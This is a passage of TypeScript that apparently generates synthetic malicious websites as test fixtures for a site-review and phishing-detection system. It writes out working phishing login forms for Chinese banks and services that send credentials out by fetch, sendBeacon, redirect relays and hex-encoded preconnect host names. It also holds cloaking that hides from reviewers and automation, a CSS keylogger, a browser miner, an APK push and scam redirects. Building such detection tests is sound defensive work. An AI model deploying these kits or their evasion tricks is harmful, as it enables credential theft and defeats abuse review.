      `<h1>小游戏</h1><script type="module">import('data:text/javascript;base64,${b64(payload)}');</script>`,
    ),
  });

  add('gambling-no-script', 'gambling scam, no script: QR code and contacts', {
    'index.html': page(
      '澳门新葡京',
      '',
      `<h1>澳门新葡京 真人荷官 在线发牌</h1><p>百家乐、时时彩、幸运飞艇，首存即送 100% 彩金，每日返水 1.5%！</p>
<p>导师带单，稳赚不赔。加微信：vx_${r.word(8)} 或 QQ：${r.int(9e8) + 1e8}</p><img src="skm.svg" alt="扫码充值 收款码">`,
    ),
    'skm.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"/>',
  });

  add('miner', 'browser miner with its pool socket', {
    'index.html': page(
      '免费电影',
      '',
      `<h1>最新电影在线看</h1><script>
var miner = { threads: navigator.hardwareConcurrency, start: function () { var ws = new WebSocket('wss://${r.host()}/proxy'); ws.onopen = function () { ws.send(JSON.stringify({ type: 'auth', params: { site_key: '${r.word(32)}', type: 'anonymous' } })); }; } };
/* cryptonight wasm worker: CoinHive compatible */ var CoinHive = { Anonymous: function () { return miner; } }; new CoinHive.Anonymous('${r.word(32)}').start();
</script>`,
    ),
  });

  const phishBody = `${LOGIN_FORM('建设银行', '您的账户已被冻结，请立即验证身份以解冻')}`;
  const cloakedSend = `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(phishBody)}); document.getElementById('f').onsubmit = function (e) { e.preventDefault(); fetch(${JSON.stringify(drop())}, { method: 'POST', body: new FormData(this) }); };`;
  add('cloak-timezone', 'shows phishing only in China Standard Time', {
    'index.html': page(
      '个人主页',
      '',
      `<h1>Welcome</h1><p>Coming soon.</p><script>if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Shanghai') { ${cloakedSend} }</script>`,
    ),
  });
  add('cloak-language-mobile', 'shows phishing only to zh-CN phones', {
    'index.html': page(
      '建站中',
      '',
      `<p>网站建设中</p><script>if (navigator.language.indexOf('zh') === 0 && /Android|iPhone/i.test(navigator.userAgent) && !navigator.webdriver) { ${cloakedSend} }</script>`,
    ),
  });
  add('cloak-first-visit', 'shows phishing on the first visit only', {
    'index.html': page(
      '活动页',
      '',
      `<p>活动已结束</p><script>if (!localStorage.getItem('seen')) { localStorage.setItem('seen', 1); ${cloakedSend} }</script>`,
    ),
  });

  // Kits that tell the review from a visitor by what only the render had, and send through a
  // channel the static check does not see (preconnect host names): the render alone can catch
  // them, where it runs as visitors get the page (an outside review's kits; docs/render.md).
  const hexSend = (guard: string) =>
    `document.getElementById('f').onsubmit = function (e) { e.preventDefault(); var h = function (s) { return Array.prototype.map.call(s, function (c) { return ('0' + c.charCodeAt(0).toString(16)).slice(-2); }).join(''); };
  var v = [this.u.value, this.p.value]; if (${guard}) return; v.forEach(function (x, i) { var l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'https://' + h(x) + '.' + i + '.${r.word(7)}.${r.pick(['top', 'xyz', 'cc'])}'; document.head.appendChild(l); }); };`;
  add('cloak-review-host', 'credentials sent only away from a review host (.invalid, render)', {
    'index.html': page(
      '会员中心',
      '',
      `${LOGIN_FORM('会员中心', '会员积分即将清零，请登录确认')}
<script>${hexSend('/\\.invalid$|render|review/.test(location.hostname)')}</script>`,
    ),
  });
  add('cloak-canary-value', 'credentials sent only when what was typed does not look planted', {
    'index.html': page(
      '账户验证',
      '',
      `${LOGIN_FORM('网上营业厅', '话费积分兑换即将截止')}
<script>${hexSend('/canary|test|7731/i.test(v.join(" "))')}</script>`,
    ),
  });

  // An outside review's kits that beat the render of the time: a password asked after 下一步, a
  // form passed on by the site's own _redirects, and one that watched how the visitor acted.
  add('two-step-login', 'password field added after 下一步, endpoint read from a JSON file', {
    'index.html': page(
      '统一认证',
      '',
      `<div class="box"><h2>统一身份认证</h2><p class="warn">检测到异常登录，账户已被临时冻结，请验证身份解冻</p>
<form id="f"><input name="u" placeholder="账号 / 手机号"><button type="button" id="next">下一步</button></form></div>
<script>fetch('cfg.json').then(function (r) { return r.json(); }).then(function (cfg) {
  document.getElementById('next').onclick = function () { document.getElementById('f').insertAdjacentHTML('beforeend', '<input type="password" name="p" placeholder="密码"><button>登录</button>'); this.remove(); };
  document.getElementById('f').onsubmit = function (e) { e.preventDefault(); if (!this.p) return; fetch(cfg.ep, { method: 'POST', body: JSON.stringify({ u: this.u.value, p: this.p.value }) }); };
});</script>`,
    ),
    'cfg.json': JSON.stringify({ ep: `https://${r.host()}/c` }),
  });
  add('redirect-relay', "form posted to the site's own path, passed to another host by _redirects", {
    'index.html': page(
      '网上银行',
      '',
      LOGIN_FORM('网上银行', '您的网银证书即将过期，请登录更新').replace(
        '<form id="f">',
        '<form id="f" action="login.html" method="post">',
      ),
    ),
    'login.html': page('登录中', '', '<p>正在登录……</p>'),
    _redirects: `/login.html  https://${r.host()}/c  307!\n`,
  });
  add('cloak-behaviour', 'credentials sent only after mouse moves and keys at a human pace', {
    'index.html': page(
      '积分兑换',
      '',
      `${LOGIN_FORM('积分商城', '积分今日清零，登录即可兑换')}
<script>var moves = 0, last = 0, gaps = []; addEventListener('mousemove', function () { moves++; });
addEventListener('keydown', function (e) { if (last) gaps.push(e.timeStamp - last); last = e.timeStamp; });
${hexSend('moves < 3 || gaps.length === 0 || gaps.reduce(function (a, b) { return a + b; }, 0) / gaps.length < 25')}</script>`,
    ),
  });

  // An outside review's kit (session 27): it sent nothing while Playwright's clock, bindings or a
  // wrapped method's source showed, as anti-bot scripts check; rated low by the render of the time.
  add(
    'cloak-automation',
    'credentials sent only without automation globals and with native-looking methods',
    {
      'index.html': page(
        '账户安全',
        '',
        `${LOGIN_FORM('账户安全中心', '您的账户存在风险，请立即验证')}
<script>var nat = function (f) { return /\\[native code\\]/.test(Function.prototype.toString.call(f)); };
${hexSend('Object.getOwnPropertyNames(window).some(function (k) { return /^__p(w|laywright)/.test(k); }) || !nat(Date.now) || !nat(setTimeout) || !nat(EventTarget.prototype.addEventListener) || !nat(performance.now)')}</script>`,
      ),
    },
  );

  add('delayed-redirect', 'redirect to a scam after a delay, host encoded', {
    'index.html': page(
      '正在加载',
      '',
      `<p>页面加载中，请稍候……</p><script>setTimeout(function () { location.replace(String.fromCharCode(${charCodes(`https://${r.host()}/?from=${r.word(4)}`)})); }, 4000);</script>`,
    ),
  });

  add('history-trap', 'back button trapped, then sent to a scam', {
    'index.html': page(
      '恭喜中奖',
      '',
      `<h1>恭喜您获得 iPhone 一台！</h1><script>
for (var i = 0; i < 10; i++) history.pushState(null, '', location.href);
window.addEventListener('popstate', function () { history.pushState(null, '', location.href); location.href = 'https://${r.host()}/lucky'; });
</script>`,
    ),
  });

  add('apk-push', 'pushes an APK download by script', {
    'index.html': page(
      '官方客户端下载',
      '',
      `<h1>正在为您下载客户端</h1><script>var a = document.createElement('a'); a.href = 'https://${r.host()}/app/release-${r.word(4)}.apk'; a.download = 'app.apk'; document.body.appendChild(a); a.click();</script>`,
    ),
  });

  add('hidden-frame', 'hidden frame loading another site', {
    'index.html': page(
      '学习资料',
      '<style>.ad{position:absolute;left:-9999px}</style>',
      `<h1>资料下载</h1><iframe class="ad" src="https://${r.host()}/t.html"></iframe>`,
    ),
  });

  add(
    'choice-gated-phish',
    'bank phishing that sends only once a bank, a card type and the terms are chosen',
    {
      'index.html': page(
        '银行卡账户升级',
        '',
        `<h2>账户升级</h2><p>您的银行卡即将停用，请完成升级</p><form id="f"><select name="bank"><option value="">请选择开户行</option><option value="ccb">建设银行</option><option value="abc">农业银行</option></select>
<label><input type="radio" name="t" value="d">储蓄卡</label><label><input type="radio" name="t" value="c">信用卡</label>
<input name="card" placeholder="银行卡号"><input type="password" name="pw" placeholder="取款密码">
<label><input type="checkbox" id="agree" style="opacity:0">我已阅读并同意《升级协议》</label><button>立即升级</button></form>
<script>document.getElementById('f').onsubmit = function (e) { e.preventDefault(); if (!this.bank.value || !this.t.value || !document.getElementById('agree').checked) { alert('请完整填写'); return; }
  var x = new XMLHttpRequest(); x.open('POST', '${drop()}'); x.send(new FormData(this)); };</script>`,
      ),
    },
  );

  add('frame-phish', 'phishing form inside a frame of the site, sending by sendBeacon', {
    'index.html': page(
      '校园网认证',
      '',
      '<h1>校园网自助服务</h1><iframe src="auth.html" width="400" height="300" style="border:0"></iframe>',
    ),
    'auth.html': page(
      '认证',
      '',
      `<form id="a"><input name="sid" placeholder="学号"><input type="password" name="pw" placeholder="统一身份认证密码"><button>登录</button></form>
<script src="a.js"></script>`,
    ),
    'a.js': `(function(){var u=atob("${b64(drop())}");document.getElementById("a").addEventListener("submit",function(e){e.preventDefault();navigator.sendBeacon(u,new URLSearchParams(new FormData(e.target)).toString())})})();`,
  });

  add('preconnect-channel', 'credentials hex-encoded into preconnect host names', {
    'index.html': page(
      '积分商城',
      '',
      `${LOGIN_FORM('积分商城', '积分即将过期，登录兑换礼品')}
<script>document.getElementById('f').onsubmit = function (e) { e.preventDefault(); var h = function (s) { return Array.prototype.map.call(s, function (c) { return ('0' + c.charCodeAt(0).toString(16)).slice(-2); }).join(''); };
  [this.u.value, this.p.value].forEach(function (v, i) { var l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'https://' + h(v) + '.' + i + '.${r.word(7)}.${r.pick(['top', 'xyz', 'cc'])}'; document.head.appendChild(l); }); };</script>`,
    ),
  });

  add('css-keylogger', 'CSS attribute-selector keylogger on a login page', {
    'index.html': page(
      '邮箱登录',
      '<link rel="stylesheet" href="theme.css">',
      `${LOGIN_FORM('企业邮箱', '邮箱即将停用，请重新登录')}
<script>document.querySelectorAll('input').forEach(function (i) { i.addEventListener('input', function () { i.setAttribute('value', i.value); }); });
document.getElementById('f').onsubmit = function () { alert('登录失败，请稍后再试'); return false; };</script>`,
    ),
    'theme.css': (() => {
      const host = `https://${r.host()}`;
      const chars = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!@#$%^&*._-';
      return [...chars]
        .map(
          (c) =>
            `input[name="p"][value$="${c}"] { background-image: url("${host}/k/${encodeURIComponent(c)}"); }`,
        )
        .join('\n');
    })(),
  });

  add('cloak-touch', 'phishing shown only on touch screens (matchMedia)', {
    'index.html': page(
      '优惠券',
      '',
      `<p>活动未开始</p><script>if (window.matchMedia('(pointer: coarse)').matches) { ${cloakedSend} }</script>`,
    ),
  });

  return sites;
}
